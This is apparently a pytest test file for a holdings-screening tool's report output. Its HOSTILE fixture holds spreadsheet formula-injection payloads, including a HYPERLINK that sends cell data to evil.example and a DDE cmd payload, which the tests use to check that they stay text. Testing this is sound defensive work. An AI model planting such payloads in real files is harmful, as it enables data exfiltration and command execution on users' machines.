"""What users' files put into reports: formulas stay text, control characters do not break
the XLSX, and how the file was read (notes, skipped rows, unknown weights) is in each one."""

from __future__ import annotations

import csv
import io
import json
from html import unescape
from pathlib import Path

import pytest
from openpyxl import load_workbook

from countersight.cli import app
from tests.conftest import Cli

HOSTILE = (
    '"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",Name,ISIN,Weight\n'
    "x,\"=cmd|' /C calc'!A0\",CNE100000PM8,2\n"
    "y,@SUM(1+1),KYG875721634,-3\n"
    "z,+Acme Holdings,,5\n"
)


def _reports(cli: Cli, tmp_path: Path, text: str, *options: str) -> tuple[Path, Path, Path]:
    source = tmp_path / "in.csv"
    source.write_text(text, encoding="utf-8")
    out = tmp_path / "r.xlsx", tmp_path / "r.csv", tmp_path / "r.html"
    args = [a for p in out for a in ("--out", str(p))]
    result = cli("screen", source, *args, *options)
    assert result.exit_code == 0, result.output
    return out


def test_formulas_from_the_input_stay_text(cli: Cli, tmp_path: Path) -> None:
    xlsx, csv_path, _ = _reports(cli, tmp_path, HOSTILE)
    sheet = load_workbook(xlsx)["Rows"]
    header = [c.value for c in sheet[1]]
    assert header[0] == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert sheet.cell(row=1, column=1).data_type == "s"
    assert sheet.cell(row=2, column=2).value == "=cmd|' /C calc'!A0"
    assert sheet.cell(row=2, column=2).data_type == "s"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
    assert rows[0][0] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert [r[1] for r in rows[1:4]] == ["'=cmd|' /C calc'!A0", "'@SUM(1+1)", "'+Acme Holdings"]
    assert rows[2][3] == "-3"  # a plain negative number is left as it is


def test_control_characters_do_not_break_the_xlsx_report(cli: Cli, tmp_path: Path) -> None:
    text = "Name,Weight\nAcme\x01 Cables\x1f Ltd,2\nHikvision\x07,3\n"
    xlsx, _, html = _reports(cli, tmp_path, text)
    sheet = load_workbook(xlsx)["Rows"]
    assert sheet.cell(row=2, column=1).value == "Acme Cables Ltd"
    summary = [c.value for row in load_workbook(xlsx)["Summary"].iter_rows() for c in row]
    assert "removed 3 control character(s) (such as NUL) from cells" in summary
    assert "removed 3 control character(s)" in html.read_text(encoding="utf-8")


def test_a_failing_report_keeps_no_run(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import countersight.report as report

    def broken(document: object, fmt: str) -> bytes:
        raise ValueError("disk quota")

    source = tmp_path / "in.csv"
    source.write_text("Name,Weight\nHikvision,3\n", encoding="utf-8")
    before = cli("runs", "--json").output
    monkeypatch.setattr(report, "render", broken)
    runner_result = cli.runner.invoke(
        app, ["screen", str(source), "--out", str(tmp_path / "r.xlsx")], env=cli.env
    )
    assert runner_result.exit_code != 0
    monkeypatch.undo()
    assert cli("runs", "--json").output == before
    assert not (tmp_path / "r.xlsx").exists()


def test_notes_skipped_rows_and_unknown_weights_reach_every_report(
    cli: Cli, tmp_path: Path
) -> None:
    text = (
        "Holdings as of 30 September\n\nName,ISIN,Weight\nHikvision,CNE100000PM8,n/a\n"
        "Tencent,KYG875721634,5\nDahua,CNE100000BJ5,2\n"
    )
    xlsx, csv_path, html = _reports(cli, tmp_path, text, "--skip-invalid")
    skipped = "skipped line 6: column 'ISIN': ISIN CNE100000BJ5 has a wrong check digit"
    page = " ".join(unescape(html.read_text(encoding="utf-8")).split())
    assert "skipped 1 row(s) before the header" in page
    assert skipped in page
    assert "unknown</div>" in page
    assert "0.00%</div>" not in page
    summary = [c.value for row in load_workbook(xlsx)["Summary"].iter_rows() for c in row]
    assert "skipped 1 row(s) before the header" in summary
    assert any(str(v).startswith(skipped) for v in summary)
    assert summary[summary.index("Flagged rows of unknown weight") + 1] == 1
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
    assert rows[1][rows[0].index("cs_note")] == "weight unknown"
    assert rows[-1][:3] == ["Dahua", "CNE100000BJ5", "2"]
    assert rows[-1][rows[0].index("cs_status")] == "skipped"
    assert rows[-1][-1].startswith("line 6: column 'ISIN': ISIN CNE100000BJ5 has a wrong")
    output = cli("screen", tmp_path / "in.csv", "--no-save", "--skip-invalid").output
    flat = " ".join(output.split())
    assert flat.startswith("note: skipped 1 row(s) before the header")
    assert (
        json.loads(
            cli("screen", tmp_path / "in.csv", "--no-save", "--skip-invalid", "--json").output
        )["summary"]["skipped_rows"]
        == 1
    )


def test_without_weights_the_report_counts_rows(cli: Cli, tmp_path: Path) -> None:
    text = "Supplier,Country\nEZVIZ,China\nAcme Cables Ltd,United Kingdom\n"
    _, _, html = _reports(cli, tmp_path, text)
    page = html.read_text(encoding="utf-8")
    assert "Flagged rows by company" in page
    assert "rows counted: the file has no weights" in page
    assert "no spend column: counts only" in page
